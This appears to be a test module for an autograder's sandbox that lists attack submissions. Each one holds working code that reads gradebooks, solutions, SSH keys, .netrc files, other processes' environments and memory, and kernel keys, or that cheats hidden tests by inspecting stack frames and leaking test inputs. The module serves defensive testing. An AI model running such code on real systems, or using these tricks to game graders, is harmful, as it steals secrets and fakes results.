"""Submissions that try to see what is none of their business: grades, solutions, hidden inputs."""

from tests.attacks import OTHER_SEED, Attack, double, he

FILES = [
    Attack(
        "gradebook",
        "Opens the gradebook and prints all that is in it.",
        first='import glob\nprint(open("$course/gradebook.db", "rb").read())',
    ),
    Attack(
        "search for gradebooks",
        "Walks through the whole file system and prints every database and master notebook.",
        first="""
import os
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        continue
    for name in names:
        if name.endswith((".db", "he.ipynb", "nbgrader_config.py", "id_rsa")):
            try:
                print(folder, name, open(os.path.join(folder, name), "rb").read(100))
            except OSError as error:
                print(error)
""",
    ),
    Attack(
        "solutions",
        "Executes the master's solutions in source/ in place of its own work.",
        first="""
import json
for cell in json.load(open("$course/source/he/he.ipynb"))["cells"]:
    exec("".join(cell["source"]))
""",
    ),
    Attack(
        "another student's work",
        "Copies the functions of another submission.",
        first="""
import json
for cell in json.load(open("$course/submitted/honest/he/he.ipynb"))["cells"]:
    exec("".join(cell["source"]))
""",
    ),
    Attack(
        "home folder",
        "Prints the files of the grader's home folder and of the folders above its own.",
        first="""
import os
for place in ["$home", os.path.expanduser("~"), "/home", "/root", "..", "../.."]:
    try:
        print(place, os.listdir(place), open(place + "/.netrc").read())
    except OSError as error:
        print(error)
""",
    ),
]

PROCESSES = [
    Attack(
        "environment",
        "Prints the environment, its own and that of every process in sight.",
        first="""
import glob, os
print(os.environ.get("AUTOGRADER_TEST_SECRET"), dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/$pid/environ"]:
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "memory of others",
        "Searches the memory of every process that it can open for secrets.",
        first="""
import glob, os
own = f"/proc/{os.getpid()}/mem"
for path in sorted({*glob.glob("/proc/[0-9]*/mem"), "/proc/$pid/mem"} - {own}):
    try:
        with open(path, "rb") as memory:
            for line in open(path.replace("/mem", "/maps")):
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                at = (data := memory.read(end - start)).find(b"CANA" + b"RY")
                print(data[at:at + 50] if at >= 0 else "")
    except (OSError, ValueError) as error:
        print(error)
""",
    ),
    Attack(
        "roots of others",
        "Looks for the grader's files through /proc: roots, working folders, open files.",
        first="""
import glob
for way in ("root", "cwd", "fd/3", "fd/4", "fd/5", "map_files"):
    for path in glob.glob("/proc/[0-9]*/" + way) + ["/proc/$pid/" + way]:
        try:
            print(open(path + "$course/gradebook.db", "rb").read())
        except OSError as error:
            print(error)
""",
    ),
    Attack(
        "inherited files",
        "Reads from every file and socket that it was born with.",
        first="""
import os
for fd in range(3, 256):
    try:
        os.set_blocking(fd, False)
        print(fd, os.readlink(f"/proc/self/fd/{fd}"), os.pread(fd, 10**6, 0))
    except OSError:
        pass
""",
    ),
    Attack(
        "keys of the kernel",
        "Asks the kernel for the keys of the session that the grader runs in.",
        first="""
import ctypes
libc = ctypes.CDLL(None)
search, read = (250, 10, -3, b"user", b"autograder-test", 0), (250, 11)
key, text = libc.syscall(*search), ctypes.create_string_buffer(100)
print(key, libc.syscall(*read, key, text, 100), text.value)
print({" ".join(line.split()[7:]) for line in open("/proc/keys")})
""",
    ),
    Attack(
        "the machine's log",
        "Reads the kernel's log, which tells of everybody's programs.",
        first="""
import ctypes
text = ctypes.create_string_buffer(10**6)
print(ctypes.CDLL(None).syscall(103, 3, text, 10**6), text.value[:100])
print(open("/dev/kmsg", "rb").read(1000))
""",
    ),
]

# What a test expects, and what it asks.
FITS = (
    OTHER_SEED["initialize_parameters_he"].replace("initialize_parameters_he", "own")
    + """

def fits(found, x):
    shapes = {f"{k}{l}": (x[l], x[l - 1] if k == "W" else 1) for l in range(1, len(x)) for k in "Wb"}
    return type(found) is dict and found.keys() == shapes.keys() and all(
        np.shape(found[key]) == shapes[key] for key in shapes)
"""
)
TESTS = [
    Attack(
        "frames",
        "Walks up the frames of its caller to the numbers that the test expects.",
        answers=he("""
import sys
frame = sys._getframe()
while frame := frame.f_back:
    if fits(found := frame.f_locals.get("expected"), x):
        return dict(found)
return own(x)
""", FITS),
        earns=2,
        stock=4,
    ),
    Attack(
        "all objects",
        "Searches all objects in memory for the matrices that a test expects.",
        answers=he("""
import gc
for found in gc.get_objects():
    if fits(found, x):
        return dict(found)
return own(x)
""", FITS),
        earns=2,
    ),
    Attack(
        "judges",
        "Computes its answers with the grader's own module for diagnoses.",
        answers=he("from diagnosis.drawing import RULES, draw\n"
                   "return draw(x, RULES['he'])"),
        stock=4,
    ),
    Attack(
        "source of the tests",
        "Prints the source of every cell, frame and file that the test consists of.",
        answers=he("""
import inspect, linecache, sys
print(In, linecache.cache.keys(), [inspect.getsource(f.frame) for f in inspect.stack()])
"""),
        last="print(In, _ih, get_ipython().history_manager.input_hist_raw)",
    ),
    Attack(
        "printed in the function",
        "Prints the inputs that hidden tests ask for, in the function and into every stream.",
        answers=he("""
import os, sys
print(x); print(x, file=sys.stderr); display(x)
for fd in range(3):
    os.write(fd, str(x).encode())
return {}
"""),
    ),
    Attack(
        "raised",
        "Raises the inputs that hidden tests ask for, as a message.",
        answers=double("raise ValueError(x)"),
        assignment="tiny",
        says="not shown",
    ),
    Attack(
        "raised as a type",
        "Raises an exception whose class, function and line are called like a hidden input.",
        answers=double("exec(f'def f{x}(): raise E{x}', {f'E{x}': type(f'E{x}', (Exception,), {})},"
                       " names := {})\nnames[f'f{x}']()"),
        assignment="tiny",
    ),
    Attack(
        "refused",
        "Returns an object of a class, below a key, that are called like a hidden input.",
        answers=double("return {f'{x}': type(f'T{x}', (), {})()}"),
        assignment="tiny",
        says="NotJudged",
    ),
    Attack(
        "warned by Python",
        "Lets Python itself repeat a hidden input in its message.",
        answers=double("return int(f'x{x}')"),
        assignment="tiny",
        says="invalid literal for int()",
    ),
    Attack(
        "stashed in a global",
        "Keeps hidden inputs in globals, a file and an attribute; a later cell prints them.",
        answers=he("""
seen.append(x)
open("seen", "a").write(str(x))
np.seen = seen
return {}
""", "seen = []"),
        last="print(seen, vars(np).get('seen'))\nprint(open('seen').read())",
    ),
    Attack(
        "stashed in shared memory",
        "Shares memory and a pipe with the copies that tests call, and prints what they put there.",
        first="""
import mmap, os, threading, time
shared, (reader, writer) = mmap.mmap(-1, 4096), os.pipe()
os.set_blocking(reader, False)
""",
        answers=he("""
shared[:len(str(x))] = str(x).encode()
os.write(writer, str(x).encode())
return {}
"""),
        last="""
def tell():
    for _ in range(100):
        time.sleep(0.1)
        print(shared[:4096].strip(b"\\0"))
threading.Thread(target=tell, daemon=True).start()
time.sleep(1)
print(shared[:4096].strip(b"\\0"))
try:
    print(os.read(reader, 10**6))
except BlockingIOError:
    print("nothing")
""",
    ),
    Attack(
        "told by a process beside it",
        "Leaves a process that waits for hidden inputs and writes them into the notebook's outputs.",
        first="""
import os, time
fd = max(int(n) for n in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{n}"))
if os.fork() == 0:
    for _ in range(50):
        time.sleep(0.1)
        if os.path.exists("/tmp/seen"):
            os.write(fd, b"\\0\\0\\0\\x64" + open("/tmp/seen", "rb").read().ljust(100))
    os._exit(0)
""",
        answers=he("open('/tmp/seen', 'a').write(str(x))\nreturn {}"),
    ),
    Attack(
        "kept for a later test",
        "Keeps the inputs of one test in a file, and answers the next with them.",
        answers=double("open('/tmp/seen', 'a').write(f'{x} ')\nreturn 2 * x")
        | {"answer": "class answer(str):\n"
                     "    def __repr__(self): return open('/tmp/seen').read()\n"
                     "answer = answer('a')"},
        assignment="tiny",
        earns=4,
    ),
]  # fmt: skip

ATTACKS = [*FILES, *PROCESSES, *TESTS]
